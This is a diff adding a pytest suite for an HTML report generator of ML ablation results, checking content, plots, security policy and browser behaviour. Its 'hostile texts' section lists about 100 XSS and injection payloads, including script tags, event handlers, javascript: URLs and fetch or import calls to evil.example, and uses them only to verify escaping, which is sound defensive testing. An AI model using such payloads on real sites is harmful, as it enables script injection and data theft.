@@ -1,0 +1,510 @@
+"""`report.html`: whole, on its own, and nothing but text of what is text. In a real Chromium where there is one."""
+
+import base64
+import hashlib
+import json
+import math
+import os
+import re
+from collections import Counter
+from dataclasses import replace
+from html.parser import HTMLParser
+from pathlib import Path
+
+import numpy as np
+import pytest
+from fake_runs import config, history, write
+
+from ablation import rundir
+from ablation.compare import panels
+from ablation.compare.comparison import Comparison, Difference, Gate, Metric, Row
+from ablation.compare.judge import Arm, judge
+from ablation.compare.load import Diverged, Run, load
+from ablation.compare.report import TAIL, duration, half_width, report, tail
+
+CHROMIUM = Path("/usr/bin/chromium")
+NAN = re.compile(r"\bnan\b|\bNone\b")
+SENTENCES = ["plain34 is worse than resnet34.", "For the rest these seeds cannot tell."]
+COMMAND = ["ablate-compare", "out puts", "--margin", "0.02"]
+METRIC = Metric("test accuracy", "test_accuracy", "Test accuracy of the last weights, on 360 images.", images=360)
+
+
+def compared(folder: Path, **changes) -> Comparison:
+    """The runs below a folder: an arm a variant, the first one by its label the baseline."""
+    loaded = load([folder])
+    groups: dict[str, list] = {}
+    for run in sorted([*loaded.runs, *loaded.diverged], key=lambda r: (r.network, r.variant, r.seed)):
+        groups.setdefault(run.variant, []).append(run)
+    rows = []
+    for index, group in enumerate(groups.values()):
+        done = tuple(run for run in group if isinstance(run, Run))
+        lost = tuple(run for run in group if isinstance(run, Diverged))
+        label = "baseline" if not index else f"-{group[0].network} {index}"
+        arm = Arm(label, {run.seed: run.test_accuracy for run in done}, 1 / 360)
+        rows.append(Row(label, done, arm, lost, planned=len(group)))
+    return Comparison(METRIC, judged(rows), "baseline", skipped=tuple(loaded.skipped), **changes)
+
+
+def judged(rows: list[Row], margin: float | None = None) -> tuple[Row, ...]:
+    base = rows[0].arm
+    having = [row for row in rows[1:] if row.runs]
+    found = judge([(row.arm, base) for row in having], None, margin)
+    findings = dict(zip([row.label for row in having], found, strict=True))
+    return tuple(replace(row, finding=findings.get(row.label), against="baseline") for row in rows)
+
+
+@pytest.fixture(scope="module")
+def study(tmp_path_factory) -> Comparison:
+    """Four arms of four seeds: the baseline, a worse one, one that the gate refuses, one of which a run diverged."""
+    out = tmp_path_factory.mktemp("outputs")
+    widths = {16: 0.9, 8: 0.6, 4: 0.89, 2: 0.88}
+    for width, accuracy in widths.items():
+        for seed in range(4):
+            rows = history(8, accuracy + 0.004 * ((seed * 7 + width) % 5), loss=1 - accuracy)
+            changes = {"status": "diverged"} if (width, seed) == (2, 3) else {}
+            write(out, config(seed=seed, **{"model.width": width}), rows, **changes)
+    made = compared(out, study="widths", question="Does width carry it?", plan="abc" * 20, comparisons=3)
+    first, *others = sorted(made.rows, key=lambda row: -row.runs[0].config["model.width"])
+    names = ("baseline", "-half", "-quarter", "-eighth")
+    rows = [
+        replace(row, label=name, arm=replace(row.arm, label=name))
+        for name, row in zip(names, (first, *others), strict=True)
+    ]
+    base, half, quarter, eighth = judged(rows)
+    half = replace(half, removed=("half",), along=("train.learning_rate=0.01",), differs={"model.width": ("16", "8")})
+    refused = Gate((Difference("data.digest", "aa", "bb"),), (Difference("threads", "1", "2"),))
+    quarter = replace(quarter, removed=("quarter",), gate=refused, finding=None)
+    eighth = replace(eighth, planned=4, gate=Gate((), (Difference("threads", "1", "2"),)))
+    (base.runs[0].path / rundir.LOG).write_text("one\n\x1b[31mtwo\x1b[0m\n10 %\r100 %\n")
+    return replace(made, rows=(base, half, quarter, eighth), warnings=("Seeds are few.",), margin=0.02)
+
+
+class Document(HTMLParser):
+    """What a parsed page is made of: elements with their attributes' names, and its text."""
+
+    def __init__(self, page: bytes):
+        super().__init__()
+        self.elements, self.values, self.text = Counter(), [], []
+        self.feed(page.decode())
+
+    def handle_starttag(self, tag, attrs):
+        self.text.append(" ")
+        self.elements[tag, tuple(sorted(name for name, _ in attrs))] += 1
+        self.values += [(tag, name, value) for name, value in attrs]
+
+    def handle_data(self, data):
+        if self.cdata_elem is None:  # neither script nor style
+            self.text.append(data)
+
+
+def shown(page: bytes) -> str:
+    return re.sub(r"\s+", " ", "".join(Document(page).text))
+
+
+# ---------------------------------------------------------------- what it holds
+
+
+def test_it_says_what_was_asked_and_what_was_found(study):
+    text = shown(report(study, SENTENCES, COMMAND))
+    for part in (
+        "Does width carry it?", "Ablation study widths", *SENTENCES, METRIC.caption, "Seeds are few.",
+        "4 variants, 16 runs", "data.digest: aa → bb", "train.learning_rate=0.01", "model.width 16 → 8",
+        "not comparable", "3 of 4 1 diverged", "335k", "1.21M", "12 s", "threads 1 → 2 -quarter, -eighth",
+        "ablate -m +study=widths", "ablate-compare 'out puts' --margin 0.02", "diverged after 8 whole epochs",
+        "one two 100 %",
+    ):  # fmt: skip
+        assert part in text, part
+
+
+def test_the_numbers_are_the_comparison_s(study):
+    text = shown(report(study, SENTENCES, COMMAND))
+    for row in study.rows:
+        assert f"{row.arm.mean:.3f} ± {half_width(row.arm):.3f}" in text
+    found = study.row("-half").finding
+    numbers = f"{found.difference:+.3f} [{found.interval[0]:+.3f}, {found.interval[1]:+.3f}]".replace("-", "−")
+    assert numbers in text and f"▼ {found.verdict}" in text
+
+
+def test_half_width_is_student_s():
+    assert half_width(Arm("a", {0: 1.0, 1: 2.0, 2: 3.0})) == pytest.approx(4.302652729911275 / math.sqrt(3))
+    assert math.isnan(half_width(Arm("a", {0: 1.0})))
+
+
+def test_a_row_that_is_refused_has_no_bar(study):
+    forest = panels.forest(study)
+    assert sorted(forest.bars) == [1, 3]
+    assert forest.margin[0] < forest.zero < forest.margin[1]
+
+
+def test_equal_input_gives_equal_bytes(study):
+    assert report(study, SENTENCES, COMMAND) == report(study, SENTENCES, COMMAND)
+
+
+def test_commands_that_made_the_runs_stand_first(study):
+    text = shown(report(study, SENTENCES, COMMAND, ["ablate -m +study=widths seed=1"]))
+    assert "ablate -m +study=widths seed=1 ablate-compare 'out puts'" in text
+
+
+def test_nothing_but_one_run(tmp_path):
+    write(tmp_path, config(), history(1))
+    text = shown(report(compared(tmp_path), [], ["ablate-compare", "x"]))
+    assert "Learning curves" in text and "Differences" not in text and not NAN.search(text)
+
+
+def test_arms_without_a_run_and_runs_without_an_epoch(tmp_path):
+    directory = write(tmp_path, config(), [], status="diverged")
+    record = rundir.read_record(directory)
+    (directory / rundir.HISTORY).unlink()
+    (directory / rundir.LOG).write_text("lost")
+    rundir.write_record(directory, record)
+    made = compared(tmp_path)
+    empty = Row("-gone", (), Arm("-gone", {}), planned=3, against="baseline")
+    text = shown(report(replace(made, rows=(*made.rows, empty)), [], ["ablate-compare"]))
+    assert "no runs" in text and "0 of 3" in text and "diverged after 0 whole epochs" in text and not NAN.search(text)
+
+
+@pytest.mark.parametrize(
+    ("seconds", "text"),
+    [(math.nan, ""), (3.21, "3.2 s"), (12.5, "12 s"), (89, "89 s"), (90, "1.5 min"), (7200, "2.0 h"), (3e5, "3.5 d")],
+)
+def test_a_duration_is_said_in_its_unit(seconds, text):
+    assert duration(seconds) == text
+
+
+# ---------------------------------------------------------------- curves
+
+
+def test_curves_are_means_and_ranges_up_to_the_last_common_epoch(tmp_path):
+    for seed, (epochs, accuracy) in enumerate([(6, 0.5), (8, 0.9)]):
+        write(tmp_path, config(seed=seed), history(epochs, accuracy))
+    made = compared(tmp_path)
+    runs = made.rows[0].runs
+    _, panel = panels.panels(made)
+    mean, low, high = panel.values["arms"]["0"]
+    both = np.array([run.history["val_accuracy"][:6] for run in runs])
+    assert mean == pytest.approx(both.mean(0), rel=1e-3) and low == pytest.approx(both.min(0), rel=1e-3)
+    assert high == pytest.approx(both.max(0), rel=1e-3) and panel.values["epochs"] == [1, 2, 3, 4, 5, 6]
+    assert panel.lines[0].mean.count("L") == 5 and panel.lines[0].seeds.count("M") == 2
+
+
+def test_a_path_lies_where_its_values_do(tmp_path):
+    write(tmp_path, config(), history(3))
+    panel = panels.panels(compared(tmp_path))[1]
+    low, high = panel.values["low"], panel.values["high"]
+    wanted = [
+        f"{x} {round(panels.HIGH * (high - value) / (high - low))}"
+        for x, value in zip((0, panels.WIDE // 2, panels.WIDE), panel.values["arms"]["0"][0], strict=True)
+    ]
+    assert panel.lines[0].mean == f"M{'L'.join(wanted)}"
+
+
+def test_a_loss_that_spans_decades_is_drawn_on_a_log_axis(tmp_path):
+    write(tmp_path, config(), history(6, loss=0.001))
+    loss, accuracy = panels.panels(compared(tmp_path))
+    assert loss.values["log"] and not accuracy.values["log"]
+
+
+def test_an_epoch_without_a_number_is_a_gap(study):
+    base = study.rows[0]
+    gone = {**base.runs[0].history, "val_loss": (1.0, math.nan, math.inf, 0.5)}
+    for name in ("loss", "val_accuracy"):
+        gone[name] = base.runs[0].history[name][:4]
+    rows = (replace(base, runs=(replace(base.runs[0], history=gone),)),)
+    made = replace(study, rows=rows, metric=replace(METRIC, key="val_loss", higher=False))
+    _, panel = panels.panels(made)
+    assert panel.title == "Validation loss" and panel.values["arms"]["0"][0] == [1.0, None, None, 0.5]
+    assert panel.lines[0].mean.count("L") == 1
+    report(made, [], COMMAND)
+    json.dumps(panel.values, allow_nan=False)
+
+
+def test_of_many_arms_the_baseline_and_the_most_different_are_drawn(study):
+    base, half, _, _ = study.rows
+    near = [replace(half, label=f"near{i}", finding=replace(half.finding, arm=base.arm)) for i in range(60)]
+    made = replace(study, rows=(base, *near, half))
+    drawn = panels.drawn(made)
+    assert len(drawn) == panels.MOST_ARMS and drawn[0] == 0 and drawn[-1] == 61
+    assert len(panels.shown(made)) == panels.SHOWN and {0, 61} <= set(panels.shown(made))
+    assert f"the baseline and the {panels.MOST_ARMS - 1} variants" in shown(report(made, [], COMMAND))
+    assert f"{62 - panels.MOST_ARMS} more are in the table" in shown(report(made, [], COMMAND))
+
+
+# ---------------------------------------------------------------- on its own
+
+
+def test_it_allows_its_own_script_and_style_by_hash_and_nothing_else(study):
+    page = report(study, SENTENCES, COMMAND).decode()
+    (policy,) = re.findall(r'http-equiv="Content-Security-Policy" content="([^"]*)"', page)
+    assert policy.startswith("default-src 'none'; img-src data:; ") and "unsafe" not in policy
+    (style,) = re.findall(r"<style>(.*?)</style>", page, re.DOTALL)
+    (script,) = re.findall(r"<script>(.*?)</script>", page, re.DOTALL)
+    for kind, text in (("style", style), ("script", script)):
+        digest = base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()
+        assert f"{kind}-src 'sha256-{digest}'" in policy
+    assert not re.search(r"@import|url\(", style)
+
+
+def test_no_attribute_asks_for_anything_or_runs_anything(study):
+    values = Document(report(study, SENTENCES, COMMAND)).values
+    assert [value for _, name, value in values if name in ("src", "href", "xlink:href", "srcset")] == ["data:,"]
+    assert not [name for _, name, _ in values if name.startswith("on") or name == "style"]
+
+
+def test_the_log_s_end_is_short_and_of_a_regular_file_alone(tmp_path):
+    log = tmp_path / rundir.LOG
+    assert tail(tmp_path) == []
+    log.write_text("".join(f"line {i}\n" for i in range(100)))
+    assert tail(tmp_path) == [f"line {i}" for i in range(80, 100)]
+    log.write_bytes(b"\xff" * 10 + b"x" * 3 * TAIL)
+    assert tail(tmp_path) == ["x" * TAIL]
+    os.truncate(log, 2**40)  # sparse: takes no room, and is not read whole
+    assert len("".join(tail(tmp_path))) <= TAIL
+    log.unlink()
+    secret = tmp_path / "secret"
+    secret.write_text("secret")
+    log.symlink_to(secret)
+    assert tail(tmp_path) == []
+    log.unlink()
+    os.mkfifo(log)
+    assert tail(tmp_path) == []
+    log.unlink()
+    log.mkdir()
+    assert tail(tmp_path) == []
+
+
+# ---------------------------------------------------------------- hostile texts
+
+SCRIPTS = (
+    "alert(1)", "window.hit=1", "fetch('//evil.example/x')", "document.title='hit'", "import('//evil.example/x.js')",
+)  # fmt: skip
+FORMS = (
+    "<script>{}</script>", "</script><script>{}</script>", "</style><script>{}</script>", "<img src=x onerror={}>",
+    '"><svg onload={}>', "'><svg/onload={}>", "<iframe srcdoc='<script>{}</script>'></iframe>",
+    '<a href="javascript:{}">x</a>', "-->{{{{<b onclick={}>", "]]><script>{}</script>",
+    "</pre><details open ontoggle={}>", "</title><script>{}</script>", "</textarea><input autofocus onfocus={}>",
+    "<math><mtext></form><form><mglyph><style>{}", "<link rel=stylesheet href='//evil.example/{}'>",
+    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<base href='//evil.example/'>{}",
+    "{{{{ self.__init__.__globals__ }}}} {{% for x in y %}}{}", "\u2028\u2029<script>{}</script>",
+    "\x00<scr\x00ipt>{}</script>\x1b]8;;http://evil.example\x07",
+)  # fmt: skip
+PAYLOADS = [form.format(script) for form in FORMS for script in SCRIPTS]
+
+
+def through_everything(study: Comparison, text: str) -> Comparison:
+    """The study with a text in every place that takes one from outside."""
+
+    def run(one):
+        more = {"name": text, "started": text} if isinstance(one, Run) else {}
+        facts = {"code": text, "git": {"commit": text}, "versions": {text: text}, "hardware": {"devices": [text]}}
+        more |= {"facts": facts | {"steps": {"total": text}}} if isinstance(one, Run) else {}
+        return replace(one, network=text, data=text, digest=text, identity=text, **more)
+
+    def row(one: Row, index: int) -> Row:
+        label = f"{text}{index}"
+        found = one.finding and replace(one.finding, warnings=(text,))
+        gate = Gate((Difference(text, text, text),) if one.gate.refused else (), (Difference(text, text, text),))
+        return replace(
+            one, label=label, runs=tuple(map(run, one.runs)), diverged=tuple(map(run, one.diverged)), finding=found,
+            differs={text: (text, text)}, removed=(text,), along=(text,), against=f"{text}0", gate=gate,
+        )  # fmt: skip
+
+    return replace(
+        study,
+        metric=Metric(text, f"test_accuracy{text}", text, images=360),
+        rows=tuple(row(one, i) for i, one in enumerate(study.rows)),
+        baseline=f"{text}0",
+        study=text,
+        question=text,
+        plan=text,
+        skipped=((Path("/tmp") / text.replace("\0", ""), text),),
+        older=(run(study.rows[0].runs[0]),),
+        warnings=(text, f"{text}."),
+    )
+
+
+def hostile(study: Comparison, text: str) -> bytes:
+    (study.rows[0].runs[0].path / rundir.LOG).write_text(text, encoding="utf-8")
+    return report(through_everything(study, text), [text], [text], [text])
+
+
+def test_a_hostile_text_makes_no_element_and_no_attribute(study):
+    assert len(set(PAYLOADS)) == 100
+    harmless = Document(hostile(study, "harmless, " + "x" * 40)).elements
+    for payload in PAYLOADS:
+        assert Document(hostile(study, payload)).elements == harmless, payload
+
+
+def test_what_no_encoding_holds_and_what_turns_text_round_is_replaced(study):
+    page = hostile(replace(study), "\u202eabc").decode()
+    assert "\u202e" not in page and "\ufffdabc" in page
+    assert "\ufffd" in report(study, ["\ud800"], COMMAND).decode()
+
+
+def test_a_giant_text_is_cut(study):
+    assert len(report(study, ["x" * 10**7], COMMAND)) < 10**6
+
+
+def test_beyond_500_runs_there_is_a_table_alone(study):
+    base, *others = study.rows
+    runs = tuple(replace(base.runs[0], seed=seed) for seed in range(600))
+    many = replace(base, runs=runs, arm=Arm("baseline", {run.seed: run.test_accuracy for run in runs}))
+    page = report(replace(study, rows=(many, *others)), SENTENCES, COMMAND)
+    text = shown(page)
+    assert "End of run.log" not in text and "Folder" in text and "1 diverged" in text
+    assert Document(page).elements["td", ("class",)] > 600
+
+
+# ---------------------------------------------------------------- in a browser
+
+
+@pytest.fixture(scope="module")
+def browser():
+    playwright = pytest.importorskip("playwright.sync_api")
+    if not CHROMIUM.exists():
+        pytest.skip(f"no {CHROMIUM} here")
+    with playwright.sync_playwright() as play:
+        opened = play.chromium.launch(executable_path=str(CHROMIUM), args=["--no-sandbox"])
+        yield opened
+        opened.close()
+
+
+@pytest.fixture
+def visit(browser, tmp_path):
+    """Open a page; it must ask for nothing but itself and say nothing on the console."""
+    contexts, said, asked = [], [], []
+
+    def open_(content: bytes, width=1280, scheme="light"):
+        file = tmp_path / "report.html"
+        file.write_bytes(content)
+        context = browser.new_context(viewport={"width": width, "height": 900}, color_scheme=scheme)
+        contexts.append(context)
+        page = context.new_page()
+        page.on("console", lambda message: said.append(message.text))
+        page.on("pageerror", lambda error: said.append(str(error)))
+        page.on("dialog", lambda dialog: (said.append("dialog"), dialog.dismiss()))
+        page.on("request", lambda request: asked.append(request.url))
+        page.goto(file.as_uri())
+        return page
+
+    yield open_
+    for context in contexts:
+        context.close()
+    assert said == [] and all(url == (tmp_path / "report.html").as_uri() for url in asked) and asked
+
+
+def labels(page) -> list[str]:
+    return page.locator(".results tbody th").all_inner_texts()
+
+
+def test_columns_are_sorted_by_click_and_by_key(study, visit):
+    page = visit(report(study, SENTENCES, COMMAND))
+    before = labels(page)
+    heading = page.locator(".results th", has=page.get_by_role("button", name="Test accuracy"))
+    means = {row.label: row.arm.mean for row in study.rows}
+    heading.locator("button").click()
+    assert labels(page) == sorted(before, key=means.get) and heading.get_attribute("aria-sort") == "ascending"
+    heading.locator("button").press("Enter")
+    assert labels(page) == sorted(before, key=means.get, reverse=True)
+    page.locator(".results").get_by_role("button", name="Difference").click()
+    assert page.locator(".results th[aria-sort]").count() == 1
+    assert labels(page)[:2] == sorted(["-half", "-eighth"], key=lambda name: study.row(name).finding.difference)
+
+
+def test_the_legend_takes_curves_away_and_brings_them_back(study, visit):
+    page = visit(report(study, SENTENCES, COMMAND))
+    curves = page.locator('.panel path.line[data-arm="1"]')
+    button = page.get_by_role("button", name="-half", exact=True)
+    assert curves.count() == 2 and curves.first.is_visible() and curves.last.is_visible()
+    button.click()
+    assert not curves.first.is_visible() and not curves.last.is_visible()
+    assert button.get_attribute("aria-pressed") == "false"
+    assert page.locator('.panel path.line[data-arm="0"]').first.is_visible()
+    button.press("Space")
+    assert curves.first.is_visible() and button.get_attribute("aria-pressed") == "true"
+    page.get_by_role("button", name="none", exact=True).click()
+    assert not any(line.is_visible() for line in page.locator(".panel path.line").all())
+    page.get_by_role("button", name="all", exact=True).click()
+    assert all(line.is_visible() for line in page.locator(".panel path.line").all())
+
+
+def test_pointing_shows_the_values_of_that_epoch(study, visit):
+    page = visit(report(study, SENTENCES, COMMAND))
+    plot = page.locator(".plot").nth(1)
+    box = plot.bounding_box()
+    plot.hover(position={"x": box["width"] * 3 / 7, "y": 20})
+    tip = plot.locator(".tip")
+    text = tip.inner_text()
+    both = [run.history["val_accuracy"][3] for run in study.rows[1].runs]
+    assert "epoch 4" in text and f"{np.mean(both):.3f} ({min(both):.3f}–{max(both):.3f})" in text
+    page.get_by_role("button", name="-half", exact=True).click()
+    plot.focus()
+    page.keyboard.press("End")
+    page.keyboard.press("ArrowLeft")
+    assert "epoch 7" in tip.inner_text() and "-half" not in tip.inner_text() and "baseline" in tip.inner_text()
+    page.keyboard.press("Escape")
+    assert not tip.is_visible()
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+@pytest.mark.parametrize("width", [320, 375, 768, 1280])
+def test_nothing_runs_off_the_page(study, visit, width, scheme):
+    long = replace(study.rows[1], label="x" * 300, differs={"y" * 300: ("1" * 300, "2" * 300)})
+    page = visit(
+        report(replace(study, rows=(*study.rows, long), question="q" * 200), ["w" * 300], COMMAND), width, scheme
+    )
+    for details in page.locator("details").all():
+        details.evaluate("one => { one.open = true }")
+    assert page.evaluate("document.documentElement.scrollWidth") <= width
+    dark = page.evaluate("getComputedStyle(document.documentElement).backgroundColor") != "rgb(255, 255, 255)"
+    assert dark == (scheme == "dark")
+
+
+def test_what_is_drawn_can_be_seen_on_its_page(study, visit):
+    """Lines have a contrast of at least 2 to the page, light or dark; the palette's orange has 2.2 on white."""
+    for scheme in ("light", "dark"):
+        page = visit(report(study, SENTENCES, COMMAND), scheme=scheme)
+        background = page.evaluate("getComputedStyle(document.documentElement).backgroundColor")
+        for line in page.locator(".panel path.line").all():
+            assert contrast(line.evaluate("one => getComputedStyle(one).stroke"), background) > 2
+
+
+def contrast(one: str, other: str) -> float:
+    def light(colour: str) -> float:
+        shares = [int(n) / 255 for n in re.findall(r"\d+", colour)[:3]]
+        linear = [s / 12.92 if s <= 0.04045 else ((s + 0.055) / 1.055) ** 2.4 for s in shares]
+        return float(np.dot(linear, (0.2126, 0.7152, 0.0722))) + 0.05
+
+    low, high = sorted((light(one), light(other)))
+    return high / low
+
+
+def test_the_bars_of_the_forest_stand_over_their_axis(study, visit):
+    """Each row has its own drawing: they must have one left and one right edge, the axis's."""
+    for width in (1280, 375):
+        page = visit(report(study, SENTENCES, COMMAND), width)
+        boxes = [svg.bounding_box() for svg in page.locator(".forest svg").all()]
+        assert len(boxes) == 3
+        assert len({(round(box["x"]), round(box["width"])) for box in boxes}) == 1
+
+
+def test_print_opens_what_is_folded(study, visit):
+    page = visit(report(study, SENTENCES, COMMAND))
+    page.emulate_media(media="print")
+    assert not page.locator(".all").is_visible()
+    page.evaluate("dispatchEvent(new Event('beforeprint'))")
+    assert page.locator("details:not([open])").count() == 0
+    page.evaluate("dispatchEvent(new Event('afterprint'))")
+    assert page.locator("details[open]").count() == 0
+
+
+def test_hostile_texts_run_nothing_and_ask_for_nothing(study, visit):
+    """All payloads in every place; 20 at a time on one page, one after another."""
+    pages = [hostile(study, "".join(PAYLOADS[i : i + 20])) for i in range(0, 100, 20)]
+    elements = set()
+    for content in pages:
+        page = visit(content)
+        assert page.evaluate("window.hit") is None and "hit" != page.title()
+        page.locator(".plot").first.hover()  # puts names into the tip
+        page.locator(".series").first.click()
+        elements.add(json.dumps(page.evaluate("[...document.querySelectorAll('main *')].map(e => e.tagName).sort()")))
+    assert len(elements) == 1
